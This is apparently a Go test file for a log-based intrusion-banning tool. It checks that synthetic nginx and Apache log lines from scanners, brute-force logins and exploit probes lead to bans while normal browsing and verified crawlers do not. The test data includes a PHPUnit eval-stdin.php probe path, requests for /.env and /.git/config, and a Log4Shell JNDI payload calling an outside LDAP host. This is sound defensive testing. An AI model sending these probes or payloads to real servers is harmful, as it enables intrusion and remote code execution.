package pipeline_test

import (
	"fmt"
	"net/netip"
	"testing"
	"time"

	"phalanx"
	"phalanx/crawler"
	"phalanx/parser/httplog"
	"phalanx/pipeline"
)

// combined returns an nginx combined access line.
func combined(addr string, at time.Time, method, uri string, status int, ua string) string {
	return fmt.Sprintf(`%s - - [%s] "%s %s HTTP/1.1" %d 153 "-" "%s"`, addr, at.Format("02/Jan/2006:15:04:05 -0700"), method, uri, status, ua)
}

const browser = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"

func webStream(t *testing.T, cfg pipeline.Config, service string) (*pipeline.Pipeline, *pipeline.Stream, *recorder) {
	t.Helper()
	p, s, rec := newStream(t, cfg)
	if service != "" {
		if err := s.SetService(service); err != nil {
			t.Fatal(err)
		}
	}
	return p, s, rec
}

func banned(rec *recorder, addr string) string {
	for _, d := range rec.decisions {
		if d.Value.Contains(netip.MustParseAddr(addr)) {
			return d.Scenario
		}
	}
	return ""
}

func TestWebCVEProbeBannedOnFirstLine(t *testing.T) {
	_, s, rec := webStream(t, pipeline.DefaultConfig(), "nginx")
	feed(s, combined("198.51.100.7", ref, "GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, "curl/8.5.0"))
	if got := banned(rec, "198.51.100.7"); got == "" {
		t.Fatalf("a PHPUnit probe was not banned; events %+v", rec.events)
	}
	ev := rec.events[0]
	if ev.Service != "nginx" || ev.Path != "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php" || ev.Written != ref {
		t.Errorf("event %+v: want service nginx, the path and the line's time", ev)
	}
}

func TestWebProbingBannedBrowsingNot(t *testing.T) {
	_, s, rec := webStream(t, pipeline.DefaultConfig(), "nginx")
	var lines []string
	at := ref
	// A browser behind a NAT: pages, assets, a few missing icons.
	for i := range 200 {
		at = at.Add(300 * time.Millisecond)
		uri, status := fmt.Sprintf("/blog/post-%d", i%30), 200
		switch i % 20 {
		case 3:
			uri, status = "/favicon.ico", 404
		case 7:
			uri, status = "/apple-touch-icon-precomposed.png", 404
		case 11:
			uri, status = fmt.Sprintf("/static/app.%d.js.map", i), 404
		}
		lines = append(lines, combined("192.0.2.10", at, "GET", uri, status, browser))
	}
	// A scanner: distinct missing paths, fast.
	for i := range 30 {
		at = at.Add(100 * time.Millisecond)
		lines = append(lines, combined("203.0.113.50", at, "GET", fmt.Sprintf("/old-%d/index.php", i), 404, browser))
	}
	feed(s, lines...)
	if got := banned(rec, "203.0.113.50"); got == "" {
		t.Errorf("the scanner was not banned")
	}
	if got := banned(rec, "192.0.2.10"); got != "" {
		t.Errorf("the NATed browsers were banned by %s", got)
	}
}

func TestWebUndeclaredFileIsRecognised(t *testing.T) {
	_, s, rec := webStream(t, pipeline.DefaultConfig(), "")
	feed(s, combined("198.51.100.8", ref, "GET", "/.env", 404, browser),
		combined("198.51.100.8", ref.Add(time.Second), "GET", "/.git/config", 404, browser),
		combined("198.51.100.8", ref.Add(2*time.Second), "GET", "/backup.sql", 404, browser))
	if len(rec.events) == 0 || rec.events[0].Service != "http" {
		t.Fatalf("events %+v: want the lines recognised as a web server's", rec.events)
	}
	if banned(rec, "198.51.100.8") == "" {
		t.Errorf("a sensitive-file hunter was not banned")
	}
}

func TestWebSyslogWrapped(t *testing.T) {
	_, s, rec := webStream(t, pipeline.DefaultConfig(), "")
	line := "Nov 28 00:00:01 web1 nginx: " + combined("198.51.100.9", ref, "GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404, "x")
	feed(s, line)
	if len(rec.events) == 0 || rec.events[0].Service != "nginx" {
		t.Fatalf("events %+v: want an nginx event from a syslog-wrapped line", rec.events)
	}
}

func TestWebTrustedProxy(t *testing.T) {
	cfg := pipeline.DefaultConfig()
	cfg.HTTP.TrustedProxies = []netip.Prefix{netip.MustParsePrefix("10.0.0.0/8")}
	cfg.HTTP.Formats = map[string]*httplog.Format{}
	f, err := httplog.CompileNginx(`$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent" "$http_x_forwarded_for"`)
	if err != nil {
		t.Fatal(err)
	}
	cfg.HTTP.Formats["xff"] = f
	p, s, rec := webStream(t, cfg, "nginx/xff")
	probe := "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"
	line := func(peer, xff string) string {
		return combined(peer, ref, "GET", probe, 404, "x") + ` "` + xff + `"`
	}
	feed(s,
		line("10.0.0.5", "198.51.100.20"),                // the balancer forwards a client
		line("10.0.0.5", "6.6.6.6, 198.51.100.21"),       // the client wrote 6.6.6.6 itself
		line("10.0.0.5", "-"),                            // the balancer names nobody
		line("192.0.2.99", "198.51.100.22"),              // not a proxy: its header is not read
		line("10.0.0.5", "198.51.100.23, 10.1.2.3"),      // two trusted hops
		line("10.0.0.5", "garbage, 198.51.100.24, evil"), // unreadable nearest element
	)
	for _, want := range []string{"198.51.100.20", "198.51.100.21", "192.0.2.99", "198.51.100.23"} {
		if banned(rec, want) == "" {
			t.Errorf("%s was not banned", want)
		}
	}
	for _, never := range []string{"10.0.0.5", "6.6.6.6", "198.51.100.22", "10.1.2.3", "198.51.100.24"} {
		if got := banned(rec, never); got != "" {
			t.Errorf("%s was banned by %s", never, got)
		}
	}
	if n := p.Counters().Skipped[pipeline.SkipNoClient]; n != 2 {
		t.Errorf("no-client lines counted %d, want 2", n)
	}
}

func TestWebFormatErrors(t *testing.T) {
	cfg := pipeline.DefaultConfig()
	for _, name := range []string{"nginx/missing", "sshd/x", "gopher"} {
		if err := cfg.CheckService(name); err == nil {
			t.Errorf("CheckService(%q) = nil, want an error", name)
		}
	}
	if err := cfg.CheckService("apache"); err != nil {
		t.Errorf("CheckService(apache) = %v", err)
	}
}

func TestWebCrawlerVerdicts(t *testing.T) {
	cfg := pipeline.DefaultConfig()
	verdicts := map[netip.Addr]crawler.Verdict{
		netip.MustParseAddr("66.249.66.1"):   crawler.Verified,
		netip.MustParseAddr("198.51.100.66"): crawler.Fake,
	}
	cfg.HTTP.Crawlers = func(a netip.Addr, domains []string) crawler.Verdict {
		if len(domains) == 0 {
			t.Errorf("no domains for %v", a)
		}
		return verdicts[a]
	}
	_, s, rec := webStream(t, cfg, "nginx")
	const bot = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
	var lines []string
	for i := range 40 {
		at := ref.Add(time.Duration(i) * 200 * time.Millisecond)
		lines = append(lines, combined("66.249.66.1", at, "GET", fmt.Sprintf("/gone-%d", i), 404, bot))
	}
	lines = append(lines, combined("198.51.100.66", ref, "GET", "/", 200, bot))
	feed(s, lines...)
	if got := banned(rec, "66.249.66.1"); got != "" {
		t.Errorf("a verified crawler was banned by %s", got)
	}
	fake := false
	for _, ev := range rec.events {
		fake = fake || ev.Kind == phalanx.KindHTTPFakeCrawler && ev.Source == netip.MustParseAddr("198.51.100.66")
	}
	if !fake {
		t.Errorf("no http-fake-crawler event for the spoofer")
	}
}

func TestWebDeferredKeepsPathAndDetail(t *testing.T) {
	rec := &recorder{}
	p, err := pipeline.New(pipeline.DefaultConfig(), rec)
	if err != nil {
		t.Fatal(err)
	}
	p.Defer()
	s := p.NewStream(ref, time.UTC)
	if err := s.SetService("nginx"); err != nil {
		t.Fatal(err)
	}
	feed(s, combined("198.51.100.30", ref, "GET", "/?x=${jndi:ldap://198.51.100.1/a}", 200, "x"))
	p.Finish()
	if len(rec.events) == 0 || rec.events[0].Path != "/" {
		t.Fatalf("events %+v", rec.events)
	}
	if rec.events[0].Kind != phalanx.KindHTTPCVE || rec.events[0].Detail == "" {
		t.Errorf("event %+v: want an http-cve naming its rule", rec.events[0])
	}
	if banned(rec, "198.51.100.30") == "" {
		t.Errorf("log4shell probe not banned in a replay")
	}
}

// TestWebTwinLogsCountOnce: nginx writes a failed basic authentication to
// its access log (401 with the user) and to its error log; with both
// watched, each failure counts once, so the ban comes after as many
// failures as with one log.
func TestWebTwinLogsCountOnce(t *testing.T) {
	countWith := func(both bool) (int, int64) {
		p, access, rec := webStream(t, pipeline.DefaultConfig(), "nginx")
		errs := p.NewStream(ref, time.UTC)
		if err := errs.SetService("nginx"); err != nil {
			t.Fatal(err)
		}
		for i := range 12 {
			at := ref.Add(time.Duration(i) * 20 * time.Second)
			access.Line([]byte(fmt.Sprintf(`198.51.100.40 - admin [%s] "GET /private/ HTTP/1.1" 401 179 "-" "%s"`, at.Format("02/Jan/2006:15:04:05 -0700"), browser)), int64(i+1))
			if both {
				errs.Line([]byte(fmt.Sprintf(`%s [error] 812#812: *%d user "admin": password mismatch, client: 198.51.100.40, server: example.com, request: "GET /private/ HTTP/1.1", host: "example.com"`, at.Format("2006/01/02 15:04:05"), 100+i)), int64(i+1))
			}
			if banned(rec, "198.51.100.40") != "" {
				return i + 1, p.Counters().Twins
			}
		}
		return 0, p.Counters().Twins
	}
	one, _ := countWith(false)
	two, twins := countWith(true)
	if one == 0 || one != two {
		t.Errorf("banned after %d failures with the access log, %d with both logs: want the same, non-zero", one, two)
	}
	if twins != int64(two) && twins != int64(two-1) {
		t.Errorf("%d twins counted for %d failures in both logs", twins, two)
	}
}

// TestWebTwinFilePaths: Apache's error log names the file, not the path
// ("File does not exist: /var/www/html/x.php"); with the access log also
// watched, a probe still counts once, so http-probing needs as many distinct
// paths with both logs as with one.
func TestWebTwinFilePaths(t *testing.T) {
	countWith := func(both bool) int {
		p, access, rec := webStream(t, pipeline.DefaultConfig(), "apache")
		errs := p.NewStream(ref, time.UTC)
		if err := errs.SetService("apache"); err != nil {
			t.Fatal(err)
		}
		for i := range 20 {
			at := ref.Add(time.Duration(i) * time.Second)
			path := fmt.Sprintf("/old-%d/setup.php", i)
			access.Line([]byte(combined("198.51.100.41", at, "GET", path, 404, browser)), int64(i+1))
			if both {
				errs.Line([]byte(fmt.Sprintf(`[%s] [core:info] [pid 4101:tid 2992634688] [client 198.51.100.41:46652] AH00128: File does not exist: /var/www/html%s`, at.Format("Mon Jan 02 15:04:05.000000 2006"), path)), int64(i+1))
			}
			if banned(rec, "198.51.100.41") != "" {
				return i + 1
			}
		}
		return 0
	}
	one, two := countWith(false), countWith(true)
	if one == 0 || one != two {
		t.Errorf("banned after %d probes with the access log, %d with both logs: want the same, non-zero", one, two)
	}
}
